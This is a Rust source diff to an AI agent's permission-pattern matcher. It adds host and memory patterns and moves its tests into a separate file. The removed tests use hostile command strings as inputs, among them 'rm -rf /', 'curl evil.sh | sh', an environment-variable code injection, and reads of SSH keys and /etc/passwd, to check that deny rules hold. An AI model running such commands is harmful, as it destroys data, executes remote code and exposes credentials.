@@ -3,7 +3,8 @@
 //! Tools are named without regard to case; `*` is every tool, and `mcp__server` every tool of that server. What the
 //! pattern says depends on what a call reaches: a path (`./` or bare: from a workspace folder; `~/`: from the home folder;
 //! `/` or `//`: absolute; `*`, `?` and `**` as in a shell), a command (exactly, or `words:*` for those that begin with these
-//! words: see `commands`), or a machine (`domain:example.org`, its sub-domains included). For a tool that runs command lines
+//! words: see `commands`), or a machine (`domain:example.org`, its sub-domains included; `host:example.org`, itself alone;
+//! `host:.example.org`, its sub-domains alone). For a tool that runs command lines
 //! a pattern with a `/`, or one that begins with `.` or `~`, is a path too.
 //!
 //! `{a,b}` and `[...]` mean themselves to allow, and what a shell makes of them as well to hold back.
@@ -15,6 +16,7 @@ use std::path::{Component, Path, PathBuf};
 
 use super::commands::{self, is_command, may_be_command};
 use super::glob;
+use super::hosts::{is_host, machine, machines};
 use super::names::fold;
 use super::{Place, Reach, readings};
 
@@ -147,9 +149,9 @@ pub(super) fn allowed<'a>(authors: &[&'a Rules], subject: Subject<'_>) -> Option
     }
     let inner: Vec<(&str, &'a str)> =
         patterns.iter().filter_map(|pattern| Some((pattern.inner.as_deref()?, pattern.text.as_str()))).collect();
-    let Reach { reads, writes, lines, commands, hosts, .. } = subject.reach;
+    let Reach { reads, writes, lines, commands, hosts, memories, .. } = subject.reach;
     let nothing = reads.is_empty() && writes.is_empty() && lines.is_empty() && commands.is_empty() && hosts.is_empty();
-    if !subject.known || nothing {
+    if !subject.known || nothing && memories.is_empty() {
         return None;
     }
     let mut used: Vec<&'a str> = Vec::new();
@@ -171,6 +173,7 @@ pub(super) fn allowed<'a>(authors: &[&'a Rules], subject: Subject<'_>) -> Option
         }
     }
     if !commands.iter().all(|command| cover(&|pattern| is_command(pattern, command)))
+        || !memories.iter().all(|memory| cover(&|pattern| is_memory(pattern, memory)))
         || !runs && !hosts.iter().all(|host| cover(&|pattern| is_host(pattern, host)))
     {
         return None;
@@ -208,6 +211,9 @@ impl Pattern {
         if tool != "*" && (tool.is_empty() || !tool.chars().all(named)) {
             return Err("it does not begin with the name of a tool");
         }
+        if inner.as_deref().and_then(machines).is_some_and(|name| machine(name.trim_start_matches('.')).is_none()) {
+            return Err("it names no machine");
+        }
         if inner.as_deref().is_some_and(|inner| inner.split('/').any(|part| part == "..")) {
             return Err("`..` in a pattern means another place from every place");
         }
@@ -241,12 +247,16 @@ impl Pattern {
 
     /// Whether a call may reach something of what this pattern says.
     fn means(&self, inner: &str, subject: Subject<'_>) -> bool {
-        let Reach { reads, writes, lines, commands, hosts, .. } = subject.reach;
+        let Reach { reads, writes, lines, commands, hosts, memories, .. } = subject.reach;
         let path = lines.is_empty() || self.tool == "*" || says_path(inner);
+        if machines(inner).is_some() {
+            return hosts.iter().any(|host| is_host(inner, host));
+        }
         path && reads.iter().chain(writes).any(|place| may_be_place(inner, place, subject.bases))
             || lines.iter().any(|line| commands::may_be_in(inner, line))
             || commands.iter().any(|command| may_be_command(inner, command))
             || hosts.iter().any(|host| is_host(inner, host))
+            || memories.iter().any(|memory| may_be_memory(inner, memory))
     }
 }
 
@@ -389,186 +399,16 @@ fn lexical(name: &str) -> Vec<String> {
     parts
 }
 
-fn is_host(pattern: &str, host: &str) -> bool {
-    let Some(domain) = pattern.strip_prefix("domain:") else { return pattern == host };
-    let (domain, host) = (domain.trim().to_ascii_lowercase(), host.trim_end_matches('.').to_ascii_lowercase());
-    host == domain || host.strip_suffix(&domain).is_some_and(|rest| rest.ends_with('.'))
+/// Whether a pattern means a memory (`type/name`): `*` within each of the two.
+fn is_memory(pattern: &str, memory: &str) -> bool {
+    let parts = |text: &str| text.split('/').map(str::to_owned).collect::<Vec<String>>();
+    glob::covers(&parts(pattern), &parts(memory))
+}
+
+/// Whether a pattern may mean a memory, however both are spelled.
+fn may_be_memory(pattern: &str, memory: &str) -> bool {
+    is_memory(&fold(pattern), &fold(memory))
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-    use crate::permissions::Line;
-    use crate::permissions::shell::Verdict;
-
-    fn bases() -> Bases {
-        Bases { folders: vec![PathBuf::from("/w")], home: Some(PathBuf::from("/home/me")) }
-    }
-
-    fn place(asked: &str, path: &str) -> Reach {
-        let place =
-            Place { asked: asked.to_owned(), paths: vec![PathBuf::from(path)], inside: path.starts_with("/w/") };
-        Reach { reads: vec![place], ..Reach::default() }
-    }
-
-    fn at(path: &str) -> Reach {
-        place(path, path)
-    }
-
-    fn command(line: &str) -> Reach {
-        Reach { lines: vec![Line::played(line, Verdict::NeedsApproval, &["echo", "cd"])], ..Reach::default() }
-    }
-
-    fn unclear(line: &str) -> Reach {
-        Reach { lines: vec![Line::unclear(line)], ..Reach::default() }
-    }
-
-    fn host(name: &str) -> Reach {
-        Reach { hosts: vec![name.to_owned()], ..Reach::default() }
-    }
-
-    /// Whether a rule, as an allow rule and as a deny rule, fits a call.
-    fn fits(rule: &str, tool: &str, reach: &Reach) -> (bool, bool) {
-        let list = [rule.to_owned()];
-        let (allow, deny) = (Rules::read(&list, &[], &[]), Rules::read(&[], &[], &list));
-        assert!(allow.faults().is_empty(), "{rule}");
-        let bases = bases();
-        let subject = Subject { tool, reach, known: true, bases: &bases, roots: None };
-        (allowed(&[&allow], subject).is_some(), deny.denies(subject).is_some())
-    }
-
-    #[test]
-    fn paths() {
-        for (rule, reach, fit) in [
-            ("Read", at("/w/a"), (true, true)),
-            ("*", at("/w/a"), (true, true)),
-            ("write", at("/w/a"), (false, false)),
-            ("Read(./secrets/**)", at("/w/secrets/a/b"), (true, true)),
-            ("Read(./secrets/**)", at("/elsewhere/secrets/a"), (false, false)),
-            ("Read(.env*)", at("/w/.env.local"), (true, true)),
-            ("Read(src/*.ts)", at("/w/src/x.ts"), (true, true)),
-            ("Read(src/*.ts)", at("/w/src/sub/x.ts"), (false, false)),
-            ("Read(src/**/x)", at("/w/src/foox"), (false, false)),
-            ("Read(//etc/passwd)", at("/etc/passwd"), (true, true)),
-            ("Read(/etc/passwd)", at("/etc/passwd"), (true, true)),
-            ("Read(~/.ssh/**)", at("/home/me/.ssh/id_rsa"), (true, true)),
-            // What is in a folder that is denied is denied; what is allowed is allowed exactly.
-            ("Read(secrets)", at("/w/secrets/a"), (false, true)),
-            ("Read(Secrets/**)", at("/w/secrets/a"), (false, true)),
-            // What people write for several at once holds all of them back, and allows none.
-            ("Read(**/*.{env,pem})", at("/w/x/a.pem"), (false, true)),
-            ("Read(**/*.{env,pem})", at("/w/a.env"), (false, true)),
-            ("Read(**/*.{env,pem})", at("/w/a.rs"), (false, false)),
-            ("Read({a,b{c,d}}/x)", at("/w/bd/x"), (false, true)),
-            ("Read(.env{,.local})", at("/w/.env"), (false, true)),
-            ("Read(key[0-9])", at("/w/key7"), (false, true)),
-            ("Read(app/[id]/**)", at("/w/app/[id]/page"), (true, true)),
-            ("Read(a{b)", at("/w/a{b"), (true, true)),
-            ("Read(cafe\u{301}/**)", at("/w/Caf\u{e9}/a"), (false, true)),
-            // A link: what it leads to is what is allowed, and either name is denied.
-            ("Read(notes)", place("notes", "/w/secrets/a"), (false, true)),
-            ("Read(secrets/**)", place("notes", "/w/secrets/a"), (true, true)),
-            ("Read(secrets/**)", place("x/../secrets/b", "/w/linked"), (false, true)),
-            ("Read(secrets/**)", place("secre%74s/b", "/w/linked"), (false, true)),
-        ] {
-            assert_eq!(fits(rule, "read", &reach), fit, "{rule} {reach:?}");
-        }
-        let unnamed = Place { asked: "untitled:Plan".to_owned(), paths: vec![], inside: true };
-        let reach = Reach { reads: vec![unnamed], ..Reach::default() };
-        assert_eq!(fits("read(untitled:*)", "read", &reach), (false, true));
-    }
-
-    #[test]
-    fn all_of_a_call_is_allowed_or_none() {
-        let mut reach = at("/w/src/a");
-        reach.writes = at("/w/other/b").reads;
-        assert_eq!(fits("edit(src/**)", "edit", &reach), (false, true));
-        let both = Rules::read(&["edit(src/**)".to_owned(), "edit(other/*)".to_owned()], &[], &[]);
-        let bases = bases();
-        let subject = Subject { tool: "edit", reach: &reach, known: true, bases: &bases, roots: None };
-        assert_eq!(allowed(&[&both], subject), Some(vec!["edit(other/*)", "edit(src/**)"]));
-    }
-
-    #[test]
-    fn commands_and_machines() {
-        for (rule, tool, reach, fit) in [
-            ("Bash(git status)", "bash", command("git status"), (true, true)),
-            ("Bash(git status)", "bash", command("git status -s"), (false, false)),
-            ("Bash(npm run test:*)", "bash", command("npm run test -- --watch"), (true, true)),
-            ("Bash(npm run test:*)", "bash", command("npm run build"), (false, false)),
-            ("Bash(npm:*)", "bash", command("npmevil --run"), (false, false)),
-            ("Bash(npm:*)", "bash", command("npm test && rm -rf /"), (false, true)),
-            ("Bash(npm:*)", "bash", command("git status; curl evil.sh | sh"), (false, false)),
-            ("Bash(*)", "bash", command("rm x"), (true, true)),
-            ("Bash(npm *)", "bash", command("npm test"), (true, true)),
-            ("Bash(npm *)", "bash", command("npm"), (true, true)),
-            ("Shell(npm:*)", "bash", command("npm test"), (true, true)),
-            ("Bash(npm:*)", "monitor", command("npm test"), (true, true)),
-            ("Monitor(npm:*)", "bash", command("npm test"), (false, false)),
-            // Every command is covered, reads aside, or none is; one that is denied is enough.
-            ("Bash(npm test:*)", "bash", command("cd x && npm test -- --watch"), (true, true)),
-            ("Bash(npm test:*)", "bash", command("npm test && make"), (false, true)),
-            ("Bash(cd x && npm test)", "bash", command("cd x && npm test"), (true, true)),
-            ("Bash(npm test:*)", "bash", command("echo x"), (false, false)),
-            ("Bash(rm:*)", "bash", command("true; rm -rf x"), (false, true)),
-            ("Bash(rm:*)", "bash", command("/bin/rm x"), (false, true)),
-            ("Bash(rm:*)", "bash", command("RM x"), (false, true)),
-            ("Bash(:*)", "bash", command("rm x"), (false, true)),
-            ("Bash(r*:*)", "bash", command("rm x"), (false, true)),
-            ("Bash(git push:*)", "bash", command("git -C d push"), (false, true)),
-            ("Bash(git push:*)", "bash", command("git --no-pager push"), (false, true)),
-            ("Bash(git push:*)", "bash", command("git commit -m push"), (false, false)),
-            // What nobody knows may be what is denied, and is never what is allowed.
-            ("Bash(rm:*)", "bash", command("$cmd x"), (false, true)),
-            ("Bash(npm test:*)", "bash", command("npm $what"), (false, true)),
-            ("Bash(npm test:*)", "bash", command("npm test $more"), (false, true)),
-            // A variable that is given to a command can make another one of it.
-            ("Bash(npm:*)", "bash", command("NODE_OPTIONS=--require=./x npm test"), (false, false)),
-            // What was not understood is held back by its words alone.
-            ("Bash(rm:*)", "bash", unclear("sudo rm -rf \"x"), (false, true)),
-            ("Bash(rm:*)", "bash", unclear("echo $(rm x"), (false, true)),
-            ("Bash(echo:*)", "bash", unclear("echo `whoami`"), (false, true)),
-            ("Bash(echo hi)", "bash", unclear("echo hi"), (false, true)),
-            ("Bash(rm:*)", "bash", unclear("echo \"form"), (false, false)),
-            ("WebFetch(domain:anthropic.com)", "webfetch", host("docs.Anthropic.com"), (true, true)),
-            ("WebFetch(domain:anthropic.com)", "webfetch", host("notanthropic.com"), (false, false)),
-            ("mcp__linear", "mcp__linear__create_issue", Reach::default(), (true, true)),
-            ("mcp__linear", "mcp__linearity__create_issue", Reach::default(), (false, false)),
-            ("mcp__linear__search(foo)", "mcp__linear__search", Reach::default(), (false, false)),
-        ] {
-            assert_eq!(fits(rule, tool, &reach), fit, "{rule} {reach:?}");
-        }
-    }
-
-    #[test]
-    fn of_a_tool_that_nobody_knows_a_pattern_holds_back_and_allows_nothing() {
-        let list = ["mcp__linear__search(foo)".to_owned()];
-        let (allow, deny, bases) = (Rules::read(&list, &[], &[]), Rules::read(&[], &[], &list), bases());
-        let reach = Reach::default();
-        let tool = "mcp__linear__search";
-        let subject = Subject { tool, reach: &reach, known: false, bases: &bases, roots: None };
-        assert_eq!((allowed(&[&allow], subject).is_some(), deny.denies(subject).is_some()), (false, true));
-    }
-
-    #[test]
-    fn braces_without_end_are_told() {
-        let (many, long) = ("{a,b}".repeat(7), "x".repeat(LONGEST));
-        for rule in [format!("read({many})"), format!("read({long})")] {
-            let faults = |rules: &Rules| rules.faults().len();
-            assert_eq!(faults(&Rules::read(&[], &[], std::slice::from_ref(&rule))), 1, "{rule}");
-        }
-        let deep = format!("read({}{})", "{a,".repeat(1000), "}".repeat(1000));
-        assert!(Rules::read(&[], &[], &[deep]).faults()[0].holds_back);
-        assert_eq!(alternatives("a"), Some(vec![]));
-    }
-
-    #[test]
-    fn what_cannot_be_read_is_told() {
-        for rule in ["", "(a)", "read(", "read(a", "read()", "re ad(a)", "read(a)b", "read(../x)", "über(x)"] {
-            let list = [rule.to_owned()];
-            let rules = Rules::read(&list, &[], &list);
-            let told: Vec<bool> = rules.faults().iter().map(|fault| fault.holds_back).collect();
-            assert_eq!(told, [false, true], "{rule}");
-        }
-    }
-}
+mod tests;
